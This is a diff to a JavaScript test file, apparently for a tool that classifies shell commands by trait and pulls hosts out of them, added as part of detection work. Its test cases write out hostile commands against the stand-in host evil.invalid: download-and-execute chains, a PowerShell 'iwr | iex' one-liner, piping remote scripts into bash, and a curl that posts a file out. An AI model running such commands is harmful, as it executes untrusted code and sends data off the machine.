@@ -1,3 +1,4 @@
+import { bareHost } from '../../../src/analysis/facts/bare-hosts.js';
 import { commandTraits, encodedCommand } from '../../../src/analysis/facts/command-traits.js';
 
 test.each([
@@ -8,6 +9,11 @@ test.each([
   ['curl -o /tmp/a evil.invalid/a && chmod +x /tmp/a && /tmp/a', ['fetches-and-runs']],
   ['powershell -c "iwr evil.invalid/v | iex"', ['fetches-and-runs']],
   ['curl -d @a evil.invalid:8080', ['fetches', 'sends']],
+  ['sudo apt-get install -y wget libfoo-dev && echo ldconfig | sudo sh', ['installs-programs']],
+  ['apt-get install -y curl git && cat setup.sh | bash', ['installs-programs']],
+  ['curl -L -o lib.tar.zst $URL', []],
+  ['curl -s 127.0.0.1:9200/_cat', []],
+  ['bash -c "curl -s evil.invalid | bash"', ['fetches-and-runs']],
   ['curl -O setup.tar.gz && ./configure', []],
   ['wget -i list.txt; python a.py', []],
   ['curl --version && make', []],
@@ -56,4 +62,14 @@ test('reads what powershell is given encoded', () => {
   const encoded = Buffer.from('Write-Output inert', 'utf16le').toString('base64');
   expect(encodedCommand(`powershell -EncodedCommand ${encoded}`)).toBe('Write-Output inert');
   expect(encodedCommand('powershell -File a.ps1')).toBeUndefined();
+});
+
+test.each([
+  ['curl -s -e sts.amazonaws.com -d "x" evil.invalid', 'evil.invalid'],
+  ['curl --user-agent "a.example.invalid" evil.invalid:8080/x', 'evil.invalid'],
+  ['curl -o a.example evil.invalid', 'evil.invalid'],
+  ['echo evil.invalid', undefined],
+  ['curl http.proxy.txt', undefined],
+])('the host in %s', (command, host) => {
+  expect(bareHost(command)).toBe(host);
 });
